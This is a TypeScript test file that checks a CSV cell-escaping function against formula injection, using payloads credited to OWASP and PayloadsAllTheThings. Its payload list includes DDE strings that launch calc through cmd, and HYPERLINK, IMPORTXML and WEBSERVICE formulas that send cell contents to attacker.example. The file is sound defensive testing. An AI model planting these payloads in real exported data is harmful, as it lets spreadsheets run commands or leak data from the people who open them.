import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvCell } from '../../api/text/csv-cell.ts'

const RUNS = 500
/** What spreadsheets were made to run. Sources: OWASP CSV Injection, PayloadsAllTheThings. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  '=HYPERLINK("https://attacker.example/?d="&A1,"Open")',
  '=IMPORTXML(CONCAT("https://attacker.example/?",A1),"//a")',
  '=WEBSERVICE("https://attacker.example/"&A1)',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '%0A-1+1|cmd',
  '|calc',
  '"=1+1',
  ';=1+1',
  ',=1+1',
]

/** Cells of one record of RFC 4180. */
function cellsOf(record: string): string[] {
  const cells: string[] = []
  for (let at = 0; at <= record.length; at++) {
    const [all = '', quoted, bare] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?=,|$)/.exec(record.slice(at)) ?? []
    cells.push(quoted?.replaceAll('""', '"') ?? bare ?? 'no cell of RFC 4180')
    at += all.length
  }
  return cells
}

describe('43: a cell of a CSV file is never a formula', () => {
  test.each(formulas)('%j', text => {
    const [cell = ''] = cellsOf(csvCell(text))
    expect(cell).not.toMatch(/^[\s\u00a0]*[=+\-@\t\r\n|%＝＋－＠]/)
    expect(cell.replace(/^'/, '')).toBe(text)
    // Someone splits at another sign than the comma: what follows must not begin a formula either.
    if (/[,;"]/.test(text)) expect(csvCell(text)).toMatch(/^".*"$/s)
  })

  test('numbers stay numbers, and names what they are', () => {
    for (const text of ['-12.5', '75000', 'Acme Corp', 'a@b.example', '2026-11-30', ''])
      expect(csvCell(text)).toBe(text)
  })

  test('for any row the cells read back are those written, but for the apostrophe', () => {
    const text = fc.oneof(fc.string(), fc.constantFrom(...formulas), fc.string({ unit: 'binary' }))
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), row => {
        const read = cellsOf(row.map(csvCell).join(','))
        expect(read).toHaveLength(row.length)
        for (const [at, cell] of read.entries()) expect([row[at], `'${row[at]}`]).toContain(cell)
      }),
      { numRuns: RUNS },
    )
  })
})
